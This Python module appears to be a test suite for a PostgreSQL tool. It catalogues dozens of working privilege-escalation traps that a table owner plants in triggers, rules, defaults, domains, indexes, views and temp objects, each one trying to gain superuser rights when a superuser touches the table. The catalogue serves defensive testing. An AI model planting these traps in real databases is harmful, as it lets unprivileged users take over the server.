"""Traps that the owner of a table, who is a plain user, can lay for a superuser who reads or changes it.

Each is laid by the owner. What it is touched by springs it where nothing confines the statement: the code then has the
rights of a superuser and says so with SPRUNG. `{t}` in the SQL is a name of the trap's own.
"""

from __future__ import annotations

from dataclasses import dataclass

SPRUNG = "hostile code ran with the rights of a superuser"

# Every trap ends here: it tries each way back to the rights of the session, then says whether it has them.
SPRING = f"""
CREATE FUNCTION public.spring() RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE
  attempt pg_catalog.text;
BEGIN
  FOREACH attempt IN ARRAY ARRAY['RESET ROLE', 'SET ROLE NONE', 'SET LOCAL ROLE NONE', 'RESET SESSION AUTHORIZATION',
    'SET SESSION AUTHORIZATION DEFAULT', 'SET LOCAL SESSION AUTHORIZATION DEFAULT',
    'SELECT pg_catalog.set_config(''role'', ''none'', false)',
    'ALTER ROLE CURRENT_USER SUPERUSER'] LOOP
    BEGIN
      EXECUTE attempt;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = CURRENT_USER) THEN
    RAISE EXCEPTION '{SPRUNG}';
  END IF;
  RETURN true;
END $$;
CREATE FUNCTION public.spring_int(int) RETURNS int IMMUTABLE LANGUAGE plpgsql
  AS 'BEGIN PERFORM public.spring(); RETURN $1; END';
CREATE FUNCTION public.spring_always() RETURNS boolean IMMUTABLE LANGUAGE plpgsql
  AS 'BEGIN PERFORM public.spring(); RETURN true; END';
CREATE FUNCTION public.spring_row() RETURNS trigger LANGUAGE plpgsql
  AS 'BEGIN PERFORM public.spring(); IF TG_OP = ''DELETE'' THEN RETURN OLD; END IF; RETURN NEW; END';
CREATE FUNCTION public.spring_later() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  IF TG_ARGV[0] = 'first' THEN
    SET CONSTRAINTS ALL DEFERRED;
    EXECUTE 'INSERT INTO ' || TG_ARGV[1] || ' VALUES (1)';
    RETURN NULL;
  END IF;
  PERFORM public.spring();
  RETURN NULL;
END $$;
CREATE FUNCTION public.spring_after(statement text) RETURNS boolean IMMUTABLE LANGUAGE plpgsql
  AS 'BEGIN EXECUTE statement; RETURN true; END';
CREATE FUNCTION public.spring_text(text) RETURNS text IMMUTABLE LANGUAGE plpgsql
  AS 'BEGIN PERFORM public.spring(); RETURN $1; END';
"""

_ROWS = "CREATE TABLE public.{t} (id int, n int); INSERT INTO public.{t} VALUES (1, 1), (2, 2);"
_READ = "SELECT id FROM public.{t}"
_INSERT = "INSERT INTO public.{t} (id, n) VALUES (3, 3)"
_UPDATE = "UPDATE public.{t} SET n = n + 1"
_DELETE = "DELETE FROM public.{t} WHERE id = 1"
_TRUNCATE = "TRUNCATE public.{t}"
_RANGES = """
CREATE TABLE public.{t} (id int, n int) PARTITION BY RANGE (id);
CREATE TABLE public.{t}_1 PARTITION OF public.{t} FOR VALUES FROM (0) TO (10);
CREATE TABLE public.{t}_2 (id int, n int);
INSERT INTO public.{t} VALUES (1, 1); INSERT INTO public.{t}_2 VALUES (11, 1);
"""
_ATTACH = "ALTER TABLE public.{t} ATTACH PARTITION public.{t}_2 FOR VALUES FROM (10) TO (20)"
_PAIR = """
CREATE TABLE public.{t} (id int PRIMARY KEY, n int); INSERT INTO public.{t} VALUES (1, 1), (2, 2);
CREATE TABLE public.{t}_far (id int, at int); INSERT INTO public.{t}_far VALUES (1, 1);
"""
_KEY = "ALTER TABLE public.{t}_far ADD CONSTRAINT {t}_key FOREIGN KEY (at) REFERENCES public.{t}"


@dataclass(frozen=True, slots=True)
class Trap:
    """What the owner lays, and the statements of a superuser that set it off."""

    name: str
    lay: str
    touch: tuple[str, ...]
    reads: bool = False  # what sets it off is a query: it also has to be confined when a plan is made
    until: int = 99  # the last major version on which it springs where nothing confines it

    def sql(self, text: str) -> str:
        """`text` with the trap's own name."""
        return text.replace("{t}", self.name)


def _trigger(when: str, touch: str, each: str = "FOR EACH ROW") -> Trap:
    name = when.lower().replace(" ", "_") + ("_statement" if "STATEMENT" in each else "")
    lay = _ROWS + f"CREATE TRIGGER evil {when} ON public.{{t}} {each} EXECUTE FUNCTION public.spring_row();"
    return Trap(name, lay, (touch,))


def _default(name: str, expression: str) -> Trap:
    return Trap(name, f"CREATE TABLE public.{{t}} (id int, n int, x text DEFAULT ({expression})::text);", (_INSERT,))


def _check(name: str, expression: str) -> Trap:
    return Trap(name, f"CREATE TABLE public.{{t}} (id int, n int, CHECK ({expression}));", (_INSERT,))


def _left(name: str, statement: str, *then: str, touch: str = _INSERT) -> Trap:
    """What the owner's code, confined or not, leaves behind for statements that come after it."""
    quoted = statement.replace("'", "''")
    lay = _ROWS + (
        "CREATE FUNCTION public.{t}_row() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN "
        f"EXECUTE '{quoted}'; RETURN NEW; END $f$; "
        "CREATE TRIGGER evil BEFORE INSERT ON public.{t} FOR EACH ROW EXECUTE FUNCTION public.{t}_row();"
    )
    return Trap(name, lay, (touch, *then))


_LATER = """
CREATE TABLE public.{t} (id int, n int); CREATE TABLE public.{t}_next (id int);
CREATE CONSTRAINT TRIGGER evil AFTER INSERT ON public.{t}_next DEFERRABLE INITIALLY DEFERRED
  FOR EACH ROW EXECUTE FUNCTION public.spring_later('last');
CREATE CONSTRAINT TRIGGER evil AFTER INSERT ON public.{t} DEFERRABLE INITIALLY DEFERRED
  FOR EACH ROW EXECUTE FUNCTION public.spring_later('first', 'public.{t}_next');
"""
_QUERY = "SELECT public.spring()"

TRAPS: tuple[Trap, ...] = (
    # Triggers and rules
    _trigger("BEFORE INSERT", _INSERT),
    _trigger("AFTER INSERT", _INSERT),
    _trigger("BEFORE UPDATE", _UPDATE),
    _trigger("AFTER UPDATE", _UPDATE),
    _trigger("BEFORE DELETE", _DELETE),
    _trigger("AFTER DELETE", _DELETE),
    _trigger("BEFORE INSERT", _INSERT, "FOR EACH STATEMENT"),
    _trigger("AFTER DELETE", _DELETE, "FOR EACH STATEMENT"),
    _trigger("BEFORE TRUNCATE", _TRUNCATE, "FOR EACH STATEMENT"),
    _trigger("AFTER TRUNCATE", _TRUNCATE, "FOR EACH STATEMENT"),
    Trap(
        "transition_table",
        _ROWS + "CREATE TRIGGER evil AFTER UPDATE ON public.{t} REFERENCING NEW TABLE AS new_rows "
        "FOR EACH STATEMENT EXECUTE FUNCTION public.spring_row();",
        (_UPDATE,),
    ),
    Trap(
        "trigger_condition",
        _ROWS + "CREATE FUNCTION public.{t}_nothing() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END'; "
        "CREATE TRIGGER evil BEFORE UPDATE ON public.{t} FOR EACH ROW WHEN (public.spring_int(OLD.id) > 0) "
        "EXECUTE FUNCTION public.{t}_nothing();",
        (_UPDATE,),
    ),
    Trap(
        "constraint_trigger",
        _ROWS + "CREATE CONSTRAINT TRIGGER evil AFTER INSERT ON public.{t} "
        "FOR EACH ROW EXECUTE FUNCTION public.spring_row();",
        (_INSERT,),
    ),
    Trap(
        "deferred_trigger",
        _ROWS + "CREATE CONSTRAINT TRIGGER evil AFTER INSERT ON public.{t} DEFERRABLE INITIALLY DEFERRED "
        "FOR EACH ROW EXECUTE FUNCTION public.spring_row();",
        (_INSERT,),
    ),
    Trap("trigger_that_postpones_itself", _LATER, (_INSERT,)),
    Trap(
        "deferred_trigger_behind_a_cascade",
        _PAIR + "ALTER TABLE public.{t}_far ADD FOREIGN KEY (at) REFERENCES public.{t} ON DELETE CASCADE; "
        "CREATE CONSTRAINT TRIGGER evil AFTER DELETE ON public.{t}_far DEFERRABLE INITIALLY DEFERRED "
        "FOR EACH ROW EXECUTE FUNCTION public.spring_row();",
        (_DELETE,),
        until=17,
    ),
    Trap(
        "deferred_trigger_behind_set_null",
        _PAIR + "ALTER TABLE public.{t}_far ADD FOREIGN KEY (at) REFERENCES public.{t} ON DELETE SET NULL; "
        "CREATE CONSTRAINT TRIGGER evil AFTER UPDATE ON public.{t}_far DEFERRABLE INITIALLY DEFERRED "
        "FOR EACH ROW EXECUTE FUNCTION public.spring_row();",
        (_DELETE,),
        until=17,
    ),
    Trap(
        "trigger_of_a_child",
        _ROWS + "CREATE TABLE public.{t}_child () INHERITS (public.{t}); INSERT INTO public.{t}_child VALUES (7, 7); "
        "CREATE TRIGGER evil BEFORE UPDATE ON public.{t}_child FOR EACH ROW EXECUTE FUNCTION public.spring_row();",
        (_UPDATE,),
    ),
    Trap(
        "trigger_of_a_partition",
        _RANGES + "CREATE TRIGGER evil BEFORE INSERT ON public.{t}_1 FOR EACH ROW "
        "EXECUTE FUNCTION public.spring_row();",
        (_INSERT,),
    ),
    Trap(
        "instead_of_trigger",
        "CREATE TABLE public.{t}_rows (id int, n int); CREATE VIEW public.{t} AS SELECT * FROM public.{t}_rows; "
        "CREATE TRIGGER evil INSTEAD OF INSERT ON public.{t} FOR EACH ROW EXECUTE FUNCTION public.spring_row();",
        (_INSERT,),
    ),
    Trap(
        "rule_on_insert",
        _ROWS + "CREATE RULE evil AS ON INSERT TO public.{t} DO ALSO SELECT public.spring();",
        (_INSERT,),
    ),
    Trap(
        "rule_on_delete",
        _ROWS + "CREATE RULE evil AS ON DELETE TO public.{t} DO INSTEAD SELECT public.spring();",
        (_DELETE,),
    ),
    Trap(
        "rule_on_update",
        _ROWS + "CREATE TABLE public.{t}_log (x bool); CREATE RULE evil AS ON UPDATE TO public.{t} DO ALSO "
        "INSERT INTO public.{t}_log SELECT public.spring();",
        (_UPDATE,),
    ),
    # Defaults, generated columns, checks, domains
    _default("default", "public.spring()"),
    _default(
        "default_that_runs_a_text",
        "ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, (CASE WHEN public.spring() THEN ''b'' END)::tsquery')",
    ),
    _default("default_with_query_to_xml", f"query_to_xml('{_QUERY}', true, true, '')"),
    _default(
        "default_with_ts_stat",
        "(SELECT public.spring_after('SELECT pg_catalog.ts_stat(''SELECT "
        "pg_catalog.array_to_tsvector(ARRAY[public.spring()::pg_catalog.text])'')'))".replace("(SELECT ", "(", 1),
    ),
    _check("check_with_query_to_xml", f"query_to_xml('{_QUERY}', true, true, '') IS NOT NULL"),
    _check(
        "check_with_query_to_xmlschema",
        "query_to_xmlschema('SELECT 1 WHERE public.spring_always()', true, true, '') IS NOT NULL",
    ),
    Trap(
        "generated_column",
        "CREATE TABLE public.{t} (id int, n int, g int GENERATED ALWAYS AS (public.spring_int(id)) STORED);",
        (_INSERT,),
    ),
    _check("check", "public.spring_int(id) = id"),
    Trap(
        "domain_check",
        "CREATE DOMAIN public.{t}_d AS int CHECK (public.spring_int(VALUE) = VALUE); "
        "CREATE TABLE public.{t} (id public.{t}_d, n int);",
        (_INSERT,),
    ),
    Trap(
        "domain_default",
        "CREATE DOMAIN public.{t}_d AS int DEFAULT public.spring_int(1); "
        "CREATE TABLE public.{t} (id int, n int, x public.{t}_d);",
        (_INSERT,),
    ),
    Trap(
        "domain_over_a_domain",
        "CREATE DOMAIN public.{t}_d AS int CHECK (public.spring_int(VALUE) = VALUE); "
        "CREATE DOMAIN public.{t}_e AS public.{t}_d; CREATE TABLE public.{t} (id public.{t}_e, n int);",
        (_INSERT,),
    ),
    Trap(
        "array_of_a_domain",
        "CREATE DOMAIN public.{t}_d AS int CHECK (public.spring_int(VALUE) = VALUE); "
        "CREATE TABLE public.{t} (id int, n int, x public.{t}_d[] DEFAULT ARRAY[1]::public.{t}_d[]);",
        (_INSERT,),
    ),
    Trap(
        "literal_of_an_array_of_a_domain",
        "CREATE DOMAIN public.{t}_d AS int CHECK (public.spring_int(VALUE) = VALUE);",
        ("SELECT '{1}'::public.{t}_d[] AS id",),
        reads=True,
    ),
    Trap(
        "row_with_a_domain",
        "CREATE DOMAIN public.{t}_d AS int CHECK (public.spring_int(VALUE) = VALUE); "
        "CREATE TYPE public.{t}_r AS (a public.{t}_d); "
        "CREATE TABLE public.{t} (id int, n int, x public.{t}_r DEFAULT ROW(1));",
        (_INSERT,),
    ),
    Trap(
        "domain_of_a_new_column",
        _ROWS + "CREATE DOMAIN public.{t}_d AS int CHECK (public.spring_int(1) = 1);",
        ("ALTER TABLE public.{t} ADD COLUMN x public.{t}_d DEFAULT 1",),
    ),
    Trap(
        "generated_column_added_again",
        _ROWS,
        ("ALTER TABLE public.{t} ADD COLUMN g int GENERATED ALWAYS AS (public.spring_int(id)) STORED",),
    ),
    Trap(
        "check_not_validated",
        _ROWS + "ALTER TABLE public.{t} ADD CONSTRAINT evil CHECK (public.spring_int(id) > 0) NOT VALID;",
        ("ALTER TABLE public.{t} VALIDATE CONSTRAINT evil",),
    ),
    Trap("check_added_again", _ROWS, ("ALTER TABLE public.{t} ADD CHECK (public.spring_int(id) > 0)",)),
    Trap(
        "cast",
        "CREATE TYPE public.{t}_mood AS ENUM ('good'); CREATE FUNCTION public.{t}_cast(public.{t}_mood) "
        "RETURNS text LANGUAGE plpgsql AS 'BEGIN PERFORM public.spring(); RETURN ''x''; END'; "
        "CREATE CAST (public.{t}_mood AS text) WITH FUNCTION public.{t}_cast(public.{t}_mood); "
        "CREATE TABLE public.{t} (id public.{t}_mood); INSERT INTO public.{t} VALUES ('good');",
        ("SELECT id::text AS id FROM public.{t}",),
        reads=True,
    ),
    # Indexes, constraints and statistics
    Trap("index_expression", _ROWS + "CREATE INDEX ON public.{t} (public.spring_int(id));", (_INSERT,)),
    Trap("unique_index_expression", _ROWS + "CREATE UNIQUE INDEX ON public.{t} (public.spring_int(id));", (_INSERT,)),
    Trap("index_predicate", _ROWS + "CREATE INDEX ON public.{t} (id) WHERE public.spring_int(id) > 0;", (_INSERT,)),
    Trap(
        "constant_index_predicate",
        _ROWS + "CREATE INDEX ON public.{t} (id) WHERE public.spring_always();",
        (_READ + " WHERE id > 0",),
        reads=True,
    ),
    Trap(
        "constant_index_expression",
        _ROWS + "CREATE INDEX ON public.{t} ((public.spring_int(1) + id));",
        (_READ + " WHERE id > 0",),
        reads=True,
    ),
    Trap(
        "constant_index_predicate_of_a_count",
        _ROWS + "CREATE INDEX ON public.{t} (id) WHERE public.spring_always();",
        ("SELECT pg_catalog.count(*) AS n FROM public.{t}",),
        reads=True,
    ),
    Trap(
        "constant_index_predicate_of_an_explain",
        _ROWS + "CREATE INDEX ON public.{t} (id) WHERE public.spring_always();",
        ("EXPLAIN SELECT * FROM public.{t} WHERE id > 0",),
        reads=True,
    ),
    Trap(
        "constant_index_predicate_of_a_child",
        _ROWS + "CREATE TABLE public.{t}_child () INHERITS (public.{t}); "
        "CREATE INDEX ON public.{t}_child (id) WHERE public.spring_always();",
        (_READ + " WHERE id > 0",),
        reads=True,
    ),
    Trap(
        "constant_index_predicate_of_a_partition",
        _RANGES + "CREATE INDEX ON public.{t}_1 (id) WHERE public.spring_always();",
        (_READ + " WHERE id > 0",),
        reads=True,
    ),
    Trap(
        "constant_index_predicate_of_a_materialized_view",
        _ROWS + "CREATE MATERIALIZED VIEW public.{t}_m AS SELECT id FROM public.{t}; "
        "CREATE INDEX ON public.{t}_m (id) WHERE public.spring_always();",
        ("SELECT pg_catalog.count(*) AS n FROM public.{t}_m",),
        reads=True,
    ),
    Trap(
        "statistics_expression",
        _ROWS + "CREATE STATISTICS public.{t}_s ON (public.spring_int(1) + id), n FROM public.{t};",
        (_READ + " WHERE id > 0",),
        reads=True,
    ),
    Trap(
        "exclusion_constraint",
        "CREATE TABLE public.{t} (id int, n int, EXCLUDE USING btree ((public.spring_int(id)) WITH =));",
        (_INSERT,),
    ),
    Trap(
        "deferred_exclusion_constraint",
        "CREATE TABLE public.{t} (id int, n int, "
        "EXCLUDE USING btree ((public.spring_int(id)) WITH =) DEFERRABLE INITIALLY DEFERRED);",
        (_INSERT,),
    ),
    # Foreign keys, in both directions
    Trap("referenced_index", _PAIR + "CREATE INDEX ON public.{t} (id) WHERE public.spring_always();", (_KEY,)),
    Trap("referencing_index", _PAIR + "CREATE INDEX ON public.{t}_far (at) WHERE public.spring_always();", (_KEY,)),
    Trap(
        "referenced_index_validated",
        _PAIR + _KEY + " NOT VALID; CREATE INDEX ON public.{t} (id) WHERE public.spring_always();",
        ("ALTER TABLE public.{t}_far VALIDATE CONSTRAINT {t}_key",),
    ),
    Trap(
        "referencing_index_validated",
        _PAIR + _KEY + " NOT VALID; CREATE INDEX ON public.{t}_far (at) WHERE public.spring_always();",
        ("ALTER TABLE public.{t}_far VALIDATE CONSTRAINT {t}_key",),
    ),
    Trap(
        "referenced_index_attached",
        _RANGES + "CREATE TABLE public.{t}_far (id int PRIMARY KEY); "
        "INSERT INTO public.{t}_far VALUES (1); ALTER TABLE public.{t} ADD FOREIGN KEY (n) REFERENCES public.{t}_far; "
        "CREATE INDEX ON public.{t}_far (id) WHERE public.spring_always();",
        (_ATTACH,),
    ),
    Trap(
        "referencing_index_detached",
        "CREATE TABLE public.{t} (id int PRIMARY KEY) PARTITION BY RANGE (id); "
        "CREATE TABLE public.{t}_1 PARTITION OF public.{t} FOR VALUES FROM (0) TO (10); "
        "CREATE TABLE public.{t}_far (at int REFERENCES public.{t}); "
        "CREATE INDEX ON public.{t}_far (at) WHERE public.spring_always();",
        ("ALTER TABLE public.{t} DETACH PARTITION public.{t}_1",),
    ),
    # Partitions
    Trap(
        "partition_key_expression",
        "CREATE TABLE public.{t} (id int, n int) PARTITION BY LIST (public.spring_int(id)); "
        "CREATE TABLE public.{t}_3 PARTITION OF public.{t} FOR VALUES IN (3);",
        (_INSERT,),
    ),
    Trap(
        "partition_key_of_an_attached_table",
        "CREATE TABLE public.{t} (id int, n int) PARTITION BY LIST (public.spring_int(id)); "
        "CREATE TABLE public.{t}_2 (id int, n int); INSERT INTO public.{t}_2 VALUES (11, 1);",
        ("ALTER TABLE public.{t} ATTACH PARTITION public.{t}_2 FOR VALUES IN (11)",),
    ),
    Trap(
        "partition_bound_with_a_function",
        "CREATE TABLE public.{t} (id int, n int) PARTITION BY RANGE (id);",
        ("CREATE TABLE public.{t}_1 PARTITION OF public.{t} FOR VALUES FROM (public.spring_int(1)) TO (2)",),
    ),
    Trap(
        "check_of_an_attached_table",
        _RANGES + "ALTER TABLE public.{t}_2 ADD CHECK (public.spring_int(id) > 0) NOT VALID;",
        (_ATTACH, "ALTER TABLE public.{t}_2 VALIDATE CONSTRAINT {t}_2_id_check"),
    ),
    Trap(
        "default_partition_scanned",
        _RANGES + "CREATE TABLE public.{t}_rest PARTITION OF public.{t} DEFAULT; "
        "CREATE INDEX ON public.{t}_rest (id) WHERE public.spring_int(id) > 0;",
        ("INSERT INTO public.{t} VALUES (99, 1)",),
    ),
    Trap(
        "index_of_an_attached_table",
        _RANGES + "CREATE INDEX {t}_i ON ONLY public.{t} (id); "
        "CREATE INDEX {t}_i1 ON public.{t}_1 (id) WHERE public.spring_always();",
        ("ALTER INDEX public.{t}_i ATTACH PARTITION public.{t}_i1",),
    ),
    # Views
    Trap(
        "view",
        _ROWS + "CREATE VIEW public.{t}_v AS SELECT id, public.spring() AS x FROM public.{t};",
        ("SELECT id, x FROM public.{t}_v",),
        reads=True,
    ),
    Trap(
        "view_with_a_barrier",
        _ROWS + "CREATE VIEW public.{t}_v WITH (security_barrier) AS SELECT id FROM public.{t} WHERE public.spring();",
        ("SELECT id FROM public.{t}_v",),
        reads=True,
    ),
    Trap(
        "view_over_a_policy",
        _ROWS + "ALTER TABLE public.{t} ENABLE ROW LEVEL SECURITY; "
        "ALTER TABLE public.{t} FORCE ROW LEVEL SECURITY; CREATE POLICY evil ON public.{t} USING (public.spring()); "
        "CREATE VIEW public.{t}_v AS SELECT id FROM public.{t};",
        ("SELECT id FROM public.{t}_v",),
        reads=True,
    ),
    Trap(
        "function_called_for_a_checksum",
        _ROWS + "CREATE VIEW public.{t}_v AS SELECT public.spring_int(id) AS id FROM public.{t};",
        ("SELECT pg_catalog.sum(pg_catalog.hash_record_extended(ROW(id), 0)) AS s FROM public.{t}_v",),
        reads=True,
    ),
    # What the owner's code leaves behind
    _left(
        "search_path",
        "SET search_path = public, pg_catalog",
        "SELECT 1 WHERE 'a'::pg_catalog.name = 'a'::pg_catalog.text",
    ),
    _left(
        "search_path_by_function",
        "SELECT pg_catalog.set_config('search_path', 'public, pg_catalog', false)",
        "SELECT 1 WHERE 'a'::pg_catalog.name = 'a'::pg_catalog.text",
    ),
    _left(
        "type_in_pg_temp", "CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (public.spring())", "SELECT 'a'::text"
    ),
    _left(
        "table_in_pg_temp",
        "CREATE VIEW pg_temp.pg_class AS SELECT public.spring() AS oid",
        "SELECT oid FROM pg_class LIMIT 1",
    ),
    _left("cursor_with_hold", "DECLARE evil CURSOR WITH HOLD FOR SELECT public.spring()"),
    _left(
        "function_turned_around",
        "DO $d$ DECLARE f pg_catalog.regprocedure; BEGIN FOR f IN SELECT oid FROM "
        "pg_catalog.pg_proc WHERE proowner = CURRENT_USER::pg_catalog.regrole AND proname LIKE 'pipeline_console%' "
        "LOOP EXECUTE 'ALTER FUNCTION ' || f || ' SECURITY INVOKER'; END LOOP; END $d$",
        "SELECT public.spring() FROM public.{t}",
    ),
)
